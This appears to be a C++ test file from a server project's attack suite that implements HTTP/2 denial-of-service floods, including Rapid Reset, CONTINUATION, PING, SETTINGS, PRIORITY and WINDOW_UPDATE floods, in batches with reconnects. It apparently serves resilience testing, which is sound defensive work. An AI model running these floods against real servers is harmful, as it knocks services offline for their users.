// Attacks by frames that cost the sender nothing.
#include <algorithm>

#include "tests/attacks/attack_functions.h"
#include "tests/attacks/attacker.h"

namespace guildhall::attacks {
namespace {

constexpr int kBatch = 500;      // frames in one write
constexpr int kMaxRefused = 20;  // connections closed by the server: the attacker gives up

// Sends `size` times what `frames(client's stream number i)` says, unread, in batches, and begins anew
// where the server closes the connection.
template <typename Frames>
Tally Flood(const Target& target, int size, std::string_view unit, const std::string& opening,
            Frames frames) {
  int sent = 0;
  int64_t refused = 0;
  while (sent < size && refused < kMaxRefused) {
    const auto client = ReachHttp2(target);
    bool open = client != nullptr && client->Send(opening);
    for (int i = 0; open && sent < size; i += kBatch, sent += kBatch) {
      std::string batch;
      for (int k = 0; k < std::min(kBatch, size - sent); ++k) batch += frames(i + k);
      open = client->Send(batch);
    }
    if (!open || client->AwaitClose(std::chrono::milliseconds(50))) ++refused;
  }
  return {{std::min(sent, size), unit}, {refused, "connections"}, {}};
}

Tally FloodOf(const Target& target, int size, const std::string& opening, const std::string& frame) {
  return Flood(target, size, "frames", opening, [&](int) { return frame; });
}

std::string Opening(uint32_t stream) {
  return http2::Headers(stream, http2::HeaderBlock(http2::CallFields(kGenerate)));
}

uint32_t StreamOf(int i) {
  return static_cast<uint32_t>(2 * i + 1);
}

}  // namespace

Tally RapidReset(const Target& target, int size) {
  const std::string data = http2::Message(ShortRequest());
  return Flood(target, size, "streams", "", [&](int i) {
    const uint32_t stream = StreamOf(i);
    return Opening(stream) + http2::Frame(http2::FrameType::kData, http2::kEndStream, stream, data) +
           http2::Reset(stream, http2::kCancel);
  });
}

Tally ResetHeadersOnly(const Target& target, int size) {
  return Flood(target, size, "streams", "",
               [](int i) { return Opening(StreamOf(i)) + http2::Reset(StreamOf(i), http2::kCancel); });
}

Tally PingFlood(const Target& target, int size) {
  return FloodOf(target, size, Opening(1), http2::Ping());
}

Tally SettingsFlood(const Target& target, int size) {
  return FloodOf(target, size, "", http2::Settings({{http2::kInitialWindowSize, 0}}));
}

Tally ContinuationFlood(const Target& target, int size) {
  const std::string block = http2::HeaderBlock(http2::CallFields(kGenerate));
  const std::string unended = http2::Frame(http2::FrameType::kHeaders, 0, 1, block);
  const std::string more = http2::HeaderBlock({{"x-filler", std::string(200, 'a')}});
  return FloodOf(target, size, unended, http2::Frame(http2::FrameType::kContinuation, 0, 1, more));
}

Tally EmptyDataFlood(const Target& target, int size) {
  return FloodOf(target, size, Opening(1), http2::Frame(http2::FrameType::kData, 0, 1));
}

Tally PriorityFlood(const Target& target, int size) {
  return FloodOf(target, size, "",
                 http2::Frame(http2::FrameType::kPriority, 0, 1, std::string_view("\0\0\0\0\x10", 5)));
}

Tally WindowFlood(const Target& target, int size) {
  return FloodOf(target, size, Opening(1), http2::WindowUpdate(1, 1));
}

}  // namespace guildhall::attacks
